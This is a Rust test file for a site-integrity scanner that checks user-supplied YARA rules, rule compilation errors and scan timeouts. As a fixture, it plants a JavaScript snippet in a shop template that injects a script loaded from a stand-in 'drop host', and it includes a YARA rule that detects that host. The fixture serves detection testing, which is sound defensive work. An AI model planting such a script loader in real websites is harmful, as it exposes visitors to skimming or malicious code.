//! `anshin integrity … --yara-rules`: the user's YARA rules beside the
//! built-in signatures, through the built binary. With the `yara` feature
//! (CI's build) the rules run; without it the flag is refused, not ignored.

use super::integrity::Shop;
#[cfg(feature = "yara")]
use super::integrity::lines;

const TEAM_RULES: &str = r#"
rule drop_host {
  meta:
    description = "the drop host of the 2026-11 incident"
    severity = "critical"
  strings:
    $host = "img-cdn-metrics.example"
  condition:
    $host
}
"#;

/// A file the built-in signatures find nothing in, but the team's rule does.
#[cfg(feature = "yara")]
const PLANTED: &str = "(function () {\n  var s = document.createElement('script');\n  s.src = '//img-cdn-metrics.example/t.js';\n  document.head.appendChild(s);\n})();\n";

fn write_rules(shop: &Shop, name: &str, text: &str) -> String {
    let dir = shop.path(name);
    std::fs::create_dir_all(&dir).expect("rules dir");
    std::fs::write(dir.join("team.yar"), text).expect("rule file");
    dir.to_str().expect("utf-8").to_owned()
}

#[cfg(feature = "yara")]
#[test]
fn check_and_scan_report_a_users_yara_rule_with_its_meta_and_offset() {
    let shop = Shop::new();
    shop.baseline();
    let rules = write_rules(&shop, "yara", TEAM_RULES);
    // The clean tree raises nothing with the user's rules either.
    let out = shop.run(&["check", "--json", "--yara-rules", &rules]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    std::fs::write(
        shop.root().join("html/template/default/assets/js/tag.js"),
        PLANTED,
    )
    .expect("plant");
    let out = shop.run(&["check", "--json", "--yara-rules", &rules]);
    assert_eq!(
        out.status.code(),
        Some(6),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let alerts = lines(&out.stdout);
    let hit = alerts
        .iter()
        .find(|a| a["rule"] == "yara.team.drop_host")
        .unwrap_or_else(|| panic!("no YARA alert in {alerts:?}"));
    assert_eq!(hit["kind"], "signature");
    assert_eq!(hit["severity"], "critical");
    assert_eq!(hit["path"], "html/template/default/assets/js/tag.js");
    assert_eq!(hit["line"], 3);
    let offset = PLANTED.find("img-cdn-metrics").expect("planted") as u64;
    assert_eq!(hit["offset"], offset);
    assert!(
        hit["message_en"]
            .as_str()
            .is_some_and(|m| m.contains("the drop host of the 2026-11 incident")),
        "{hit}"
    );
    // Without the rules the same check sees only an added file.
    let (_, plain, _) = shop.check();
    assert!(plain.iter().all(|a| a["kind"] != "signature"), "{plain:?}");

    let html = shop.root().join("html");
    let out = shop.run(&[
        "scan",
        html.to_str().expect("utf-8"),
        "--json",
        "--yara-rules",
        &rules,
    ]);
    assert_eq!(out.status.code(), Some(6));
    let found: Vec<_> = lines(&out.stdout)
        .into_iter()
        .map(|a| (a["rule"].clone(), a["path"].clone()))
        .collect();
    assert_eq!(
        found,
        vec![(
            "yara.team.drop_host".into(),
            "template/default/assets/js/tag.js".into()
        )]
    );
}

#[cfg(feature = "yara")]
#[test]
fn bad_rules_are_refused_and_a_slow_rule_does_not_hang_the_scan() {
    let shop = Shop::new();
    let html = shop.root().join("html");
    let html = html.to_str().expect("utf-8");
    let broken = write_rules(&shop, "broken", "rule r { strings: $a = \"x\" condition: $b }");
    let out = shop.run(&["scan", html, "--yara-rules", &broken]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("team.yar") && stderr.contains("does not compile"),
        "{stderr}"
    );
    let out = shop.run(&[
        "scan",
        html,
        "--yara-rules",
        &shop.path("missing").to_string_lossy(),
    ]);
    assert_eq!(out.status.code(), Some(2));

    // Quadratic in the file's size: hours on this file without the limit.
    let slow = write_rules(
        &shop,
        "slow",
        "rule slow { condition: for all i in (0..filesize) : (for all j in (0..filesize) : (uint8(i) != 7 or uint8(j) != 8)) }",
    );
    let big = shop.root().join("html/big.js");
    std::fs::write(&big, vec![b'a'; 1 << 20]).expect("write");
    let started = std::time::Instant::now();
    let big = big.to_str().expect("utf-8");
    let out = shop.run(&[
        "scan",
        big,
        "--json",
        "--yara-rules",
        &slow,
        "--yara-timeout",
        "1",
    ]);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(out.status.code(), Some(6));
    let alerts = lines(&out.stdout);
    assert!(
        alerts
            .iter()
            .any(|a| a["rule"] == "yara.timeout" && a["path"] == "big.js" && a["severity"] == "high"),
        "{alerts:?}"
    );
}

#[cfg(not(feature = "yara"))]
#[test]
fn without_the_yara_feature_the_flag_is_refused_not_ignored() {
    let shop = Shop::new();
    let rules = write_rules(&shop, "yara", TEAM_RULES);
    let html = shop.root().join("html");
    let out = shop.run(&["scan", html.to_str().expect("utf-8"), "--yara-rules", &rules]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("without YARA support"));
}
